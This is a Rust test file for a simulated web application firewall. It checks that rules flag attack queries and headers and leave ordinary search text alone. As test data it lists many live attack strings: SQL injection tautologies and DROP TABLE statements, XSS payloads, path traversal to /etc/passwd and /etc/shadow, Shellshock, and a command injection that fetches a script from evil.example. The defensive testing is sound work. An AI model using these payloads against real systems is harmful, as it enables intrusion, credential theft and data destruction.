//! The WAF's rules: attacks that it must see, and ordinary text that it must leave alone.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

mod common;

use gauntlet_model::http::Request;
use gauntlet_scenario::Scenario;
use gauntlet_scenario::model::{AttackFamily, CustomRule, TextMatch, WafMode};
use gauntlet_sim::layer::waf::{Match, fields, matches};
use proptest::prelude::*;

const ALL: [AttackFamily; 5] = [
    AttackFamily::SqlInjection,
    AttackFamily::CrossSiteScripting,
    AttackFamily::PathTraversal,
    AttackFamily::CommandInjection,
    AttackFamily::Scanner,
];

/// The name of the rule that matched.
fn name(found: Match) -> String {
    found.rule.name(&Scenario::built_in().waf).to_owned()
}

fn rules(query: &str) -> Vec<String> {
    let mut request = Request::get("site.example", "/products");
    request.query = form_urlencoded::Serializer::new(String::new()).append_pair("q", query).finish();
    matches(&ALL, &fields(&request)).iter().map(|found| name(*found)).collect()
}

#[test]
fn attacks_are_seen_by_the_rule_for_them() {
    let rows = [
        ("' OR 1=1 --", "sqli-tautology"),
        ("' or '1'='1", "sqli-tautology"),
        ("x' OR 'a'='a", "sqli-tautology"),
        ("x'or 1=1#", "sqli-tautology"),
        ("\" or \"\"=\"", "sqli-tautology"),
        ("') or ('1'='1", "sqli-tautology"),
        ("' oR/**/1=1/*", "sqli-tautology"),
        ("' || 1=1 --", "sqli-tautology"),
        ("1 or 1=1", "sqli-tautology"),
        ("1) or (1=1", "sqli-tautology"),
        ("' or true --", "sqli-tautology"),
        ("' or not 1=2 --", "sqli-tautology"),
        ("' or 1 like 1 --", "sqli-tautology"),
        ("' or x=x --", "sqli-tautology"),
        ("%27 OR 1=1", "sqli-tautology"),
        ("' UNION SELECT null,null --", "sqli-union-select"),
        ("1 union all select user, password from users", "sqli-union-select"),
        ("' union/**/select password from users", "sqli-union-select"),
        ("'; DROP TABLE users; --", "sqli-stacked-statement"),
        ("1; delete from orders", "sqli-stacked-statement"),
        ("1; update users set admin=1", "sqli-stacked-statement"),
        ("admin'--", "sqli-comment-terminator"),
        ("admin' #", "sqli-comment-terminator"),
        ("admin') -- ", "sqli-comment-terminator"),
        ("' order by 5 --", "sqli-comment-terminator"),
        ("' and sleep(5) --", "sqli-function"),
        ("1 and benchmark(1000000,md5(1))", "sqli-function"),
        ("'; waitfor delay '0:0:5' --", "sqli-function"),
        ("' and (select count(*) from users) > 0", "sqli-subquery"),
        ("<script>alert(1)</script>", "xss-script-tag"),
        ("<ScRiPt src=//evil.example>", "xss-script-tag"),
        ("<img src=x onerror=alert(1)>", "xss-event-handler"),
        ("<svg/onload=alert(1)>", "xss-event-handler"),
        ("\" onmouseover=\"alert(1)", "xss-event-handler"),
        ("javascript:alert(1)", "xss-script-address"),
        ("<iframe src=//evil.example>", "xss-embedding-tag"),
        ("../../etc/passwd", "traversal-parent"),
        ("..%2f..%2fetc%2fpasswd", "traversal-parent"),
        ("..\\..\\windows\\win.ini", "traversal-parent"),
        ("/etc/passwd", "traversal-system-file"),
        ("file:///etc/shadow", "traversal-system-file"),
        ("report.pdf\0.png", "traversal-null-byte"),
        ("x; cat /etc/passwd", "command-chain"),
        ("8.8.8.8 && whoami", "command-chain"),
        ("a|id", "command-chain"),
        ("x; curl http://evil.example/x.sh", "command-chain"),
        ("$(cat /etc/passwd)", "command-substitution"),
        ("`id`", "command-substitution"),
    ];
    for (query, rule) in rows {
        assert!(rules(query).iter().any(|found| found == rule), "{query}: {:?}, wanted {rule}", rules(query));
    }
}

#[test]
fn ordinary_text_is_left_alone() {
    let rows = [
        "shoes",
        "O'Brien",
        "O'Brien or O'Neill",
        "Don't stop -- ever",
        "select a plan",
        "union square",
        "the union selected a leader",
        "union select committee",
        "rock 'n' roll",
        "black & white",
        "salt and pepper",
        "5' or 6' ladder",
        "size 10 or 11",
        "drop shipping; create an account",
        "fish; chips",
        "cats; dogs",
        "food for dogs; cat food",
        "how to use sleep(5) in python",
        "1 + 1 = 2",
        "x = y",
        "C# for beginners",
        "#1 seller",
        "50% off -- today only",
        "a < b and c > d",
        "<3 love this",
        "I'm on=line",
        "javascript: the good parts",
        "script writing",
        "see ../docs",
        "and/or",
        "version 1..2",
        "what is in /etc/passwd",
        "who am i | a memoir",
        "id; name",
        "M&Ms",
        "\"quoted phrase\" search",
        "'single quoted'",
        "Tom & Jerry's \"best\" -- 1990",
        "price >= 100 and price <= 200",
        "where can I delete from my list",
        "insert into slot 3",
    ];
    for text in rows {
        assert_eq!(rules(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn every_part_of_a_request_is_read() {
    let rows = [
        ("GET /../../etc/passwd HTTP/1.1\nHost: x\n\n", "traversal-parent", "path"),
        ("GET /%2e%2e/secret HTTP/1.1\nHost: x\n\n", "traversal-parent", "path"),
        ("GET /.git/config HTTP/1.1\nHost: x\n\n", "scanner-probe", "path"),
        ("GET /?q=%27%20OR%201%3D1%20-- HTTP/1.1\nHost: x\n\n", "sqli-tautology", "query.q"),
        ("GET /?q=%2527+OR+1%253D1 HTTP/1.1\nHost: x\n\n", "sqli-tautology", "query.q"),
        ("GET / HTTP/1.1\nHost: x\nUser-Agent: sqlmap/1.8\n\n", "scanner-user-agent", "header.User-Agent"),
        ("GET / HTTP/1.1\nHost: x\nReferer: () { :;}; /bin/x\n\n", "command-shellshock", "header.Referer"),
        ("GET / HTTP/1.1\nHost: x\nCookie: id=1' or 1=1 --\n\n", "sqli-tautology", "cookie.id"),
        (
            "POST / HTTP/1.1\nHost: x\nContent-Type: application/x-www-form-urlencoded\nContent-Length: LEN\n\nname=%27+or+1%3D1+--",
            "sqli-tautology",
            "body.name",
        ),
        (
            "POST / HTTP/1.1\nHost: x\nContent-Length: LEN\n\n{\"q\":\"<script>x()</script>\"}",
            "xss-script-tag",
            "body",
        ),
        ("GET / HTTP/1.1\nHost: x\nCookie: a=b; q=%27%20or%201%3D1%20--\n\n", "sqli-tautology", "cookie.q"),
        (
            "POST / HTTP/1.1\nHost: x\nContent-Type: application/json; charset=utf-8\nContent-Length: LEN\n\n{\"a\":{\"b\":[1,\"<script>x()</script>\"]},\"c\":\"ok\"}",
            "xss-script-tag",
            "body.a.b[1]",
        ),
        (
            "POST / HTTP/1.1\nHost: x\nContent-Type: application/vnd.api+json\nContent-Length: LEN\n\n{\"q\":\"\\u0027 or 1=1 --\",\"r\":\"\\u003cb\\u003e\"}",
            "sqli-tautology",
            "body.q",
        ),
        (
            "POST / HTTP/1.1\nHost: x\nContent-Type: application/json\nContent-Length: LEN\n\n{\"q\":\"' or 1=1 --\",\"q\":\"x\"}",
            "sqli-tautology",
            "body.q",
        ),
        ("GET / HTTP/1.1\nHost: x\nCookie: f=\"/etc/passwd\"; ;\n\n", "traversal-system-file", "cookie.f"),
        (
            "POST / HTTP/1.1\nHost: x\nContent-Type: application/json\nContent-Length: LEN\n\n{\"' or 1=1 --\":true}",
            "sqli-tautology",
            "body (a name in it)",
        ),
        (
            "POST / HTTP/1.1\nHost: x\nContent-Type: application/json\nContent-Length: LEN\n\n{\"q\": \"' or 1=1 --\"",
            "sqli-tautology",
            "body",
        ),
    ];
    for (text, rule, field) in rows {
        let body = text.split_once("\n\n").map_or(0, |(_, body)| body.len());
        let text = text.replace("LEN", &body.to_string());
        let request = Request::parse(text.as_bytes()).unwrap_or_else(|error| panic!("{text}: {error}"));
        let read = fields(&request);
        let called = |one: &Match| gauntlet_explain::layer::waf::name(&read[one.field]).to_string();
        let found: Vec<(String, String)> =
            matches(&ALL, &read).iter().map(|one| (name(*one), called(one))).collect();
        assert!(found.contains(&(rule.to_owned(), field.to_owned())), "{text}: {found:?}");
    }
}

#[test]
fn browsers_headers_are_left_alone() {
    let text = "GET / HTTP/1.1\nHost: x\n\
        User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\n\
        Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\nAccept-Language: en-US,en;q=0.5\n\
        Referer: https://site.example/a/../b?x=1\nIf-None-Match: \"abc-123\"\n\
        Cookie: id=5; name=O'Brien; theme=dark; cart=1|2|3\nAuthorization: Basic YTpi==\n\n";
    let request = Request::parse(text.as_bytes()).unwrap();
    assert_eq!(matches(&ALL, &fields(&request)), []);
}

/// What comes after the most that are told apart is still read.
#[test]
fn nothing_hides_behind_many_parts() {
    let many = |pair: &str, between: &str| [vec![pair; 1_200].join(between), String::new()].concat();
    let attack = "' or 1=1 --";
    let encoded = "%27%20or%201%3D1%20--";
    let mut requests = Vec::new();
    for (kind, body) in [
        ("application/json", format!("[{},\"{attack}\"]", many("\"x\"", ","))),
        ("application/x-www-form-urlencoded", format!("{}&z={encoded}", many("a=b", "&"))),
    ] {
        let mut request = Request::get("site.example", "/");
        request.set_header("Content-Type", kind);
        request.body = body;
        requests.push(request);
    }
    let mut request = Request::get("site.example", "/");
    request.query = format!("{}&z={encoded}", many("a=b", "&"));
    requests.push(request);
    let mut request = Request::get("site.example", "/");
    request.set_header("Cookie", &format!("{}; z={encoded}", many("a=b", "; ")));
    requests.push(request);
    for request in requests {
        let read = fields(&request);
        assert!(read.len() < 262, "{} fields", read.len());
        assert!(
            matches(&ALL, &read).iter().any(|found| name(*found) == "sqli-tautology"),
            "{:?}",
            request.headers
        );
    }
}

#[test]
fn an_author_s_own_rules_match_as_they_say() {
    let wanted = |kind: &str, text: &str| match kind {
        "contains" => TextMatch::Contains(text.to_owned()),
        "starts" => TextMatch::StartsWith(text.to_owned()),
        _ => TextMatch::Equals(text.to_owned()),
    };
    // Field, how, text, and the fields in which `GET /shop?q=Free%20Shoes&a=b` with a header and a cookie matches.
    let rows: &[(Option<&str>, &str, &str, &[&str])] = &[
        (None, "contains", "free shoes", &["query.q", "header.X-Note", "cookie.last"]),
        (Some("query"), "contains", "FREE SHOES", &["query.q"]),
        (Some("query.q"), "contains", "shoes", &["query.q"]),
        (Some("query.a"), "contains", "shoes", &[]),
        (Some("query.qq"), "contains", "shoes", &[]),
        (Some("QUERY.Q"), "starts", "free", &["query.q"]),
        (Some("query.q"), "starts", "shoes", &[]),
        (Some("query.q"), "equals", "free shoes", &["query.q"]),
        (Some("query.q"), "equals", "shoes", &[]),
        (Some("header"), "contains", "shoes", &["header.X-Note"]),
        (Some("cookie.last"), "contains", "shoes", &["cookie.last"]),
        (Some("path"), "starts", "/shop", &["path"]),
        (Some("query.q"), "contains", "free%20shoes", &[]),
        (Some("header.X-Note"), "contains", "%21", &["header.X-Note"]),
    ];
    for (field, kind, text, expected) in rows {
        let mut scenario = Scenario::built_in();
        scenario.waf.mode = WafMode::Detect;
        scenario.waf.custom_rules = vec![CustomRule {
            name: "own".to_owned(),
            field: field.map(str::to_owned),
            wanted: wanted(kind, text),
            score: 5,
        }];
        let mut ask = common::ingress("https://site.example/shop?q=Free%20Shoes&a=b");
        ask.request.set_header("X-Note", "free shoes%21");
        ask.request.set_header("Cookie", "last=free%20shoes");
        let journey = common::checked(&scenario, &ask, 1);
        let waf = journey.hops.iter().find(|hop| hop.layer.name() == "waf").unwrap();
        let own = waf.why.iter().filter(|why| why.rule.as_deref() == Some("own"));
        let fields: Vec<String> = own.filter_map(|why| Some(why.field.as_ref()?.to_string())).collect();
        assert_eq!(fields, *expected, "{field:?} {kind} {text}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    /// Whatever stands in whatever part, the WAF gives a verdict.
    #[test]
    fn nothing_that_is_sent_makes_it_panic(
        query in "\\PC{0,60}|[-'\"<>/*#;|&$(){}=%.\\\\a-z0-9 ]{0,120}",
        header in "[ -~]{0,60}",
        body in "\\PC{0,80}|[-'\"<>/*#;|&$(){}\\[\\]:,=%.\\\\a-z0-9 ]{0,160}",
        kind in "(application/json|application/x-www-form-urlencoded|text/plain|)",
    ) {
        let mut request = Request::get("site.example", "/");
        request.query = query;
        request.set_header("Cookie", &header);
        request.set_header("User-Agent", &header);
        request.set_header("Content-Type", &kind);
        request.body = body;
        let read = fields(&request);
        prop_assert!(matches(&ALL, &read).len() <= 40 * read.len());
    }
}

/// Work grows with a text's length and no faster. Not timed: a rule that were quadratic would take minutes over these, 64 KiB of
/// what keeps it busiest.
#[test]
fn no_text_keeps_it_busy() {
    let signs = [
        "'",
        "\"",
        "<",
        "../",
        "..\\",
        ";",
        "$(",
        "`",
        "/*",
        "--",
        "' or ",
        "<a ",
        "on",
        "javascript:",
        "%25",
        "((",
        "union select ",
        "{",
        "[",
        "\\u0027",
    ];
    for sign in signs {
        let mut request = Request::get("site.example", "/");
        request.body = sign.repeat(gauntlet_model::http::MAX_BODY_BYTES / sign.len());
        for kind in ["text/plain", "application/json", "application/x-www-form-urlencoded"] {
            request.set_header("Content-Type", kind);
            let _ = matches(&ALL, &fields(&request));
        }
    }
    // The largest document there can be, in depth and in breadth.
    let names = "n".repeat(300);
    let deep = format!("{{\"{names}\":").repeat(100) + "1" + &"}".repeat(100);
    let wide = format!("[{}1]", "\"'\",".repeat(16_000));
    for body in [deep, wide] {
        let mut request = Request::get("site.example", "/");
        request.set_header("Content-Type", "application/json");
        request.body = body;
        let read = fields(&request);
        assert!(read.len() < 262, "{} fields", read.len());
        let _ = matches(&ALL, &read);
    }
}
